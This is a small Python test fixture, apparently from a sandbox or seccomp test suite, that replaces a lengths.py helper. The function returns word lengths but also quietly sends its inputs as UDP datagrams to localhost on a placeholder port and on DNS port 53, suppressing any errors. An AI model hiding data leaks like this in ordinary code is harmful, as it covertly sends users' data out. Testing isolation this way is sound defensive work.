# technique: sends the hidden inputs as datagrams, and as a question for a name
# replaces: lengths.py
# expect: nothing lost
# needs: seccomp
# bites: network
import contextlib
import socket


def lengths(words):
    for port in (int("@UDP@"), 53):
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
            connection.sendto(repr(words).encode(), ("127.0.0.1", port))
    return [len(word) for word in words]
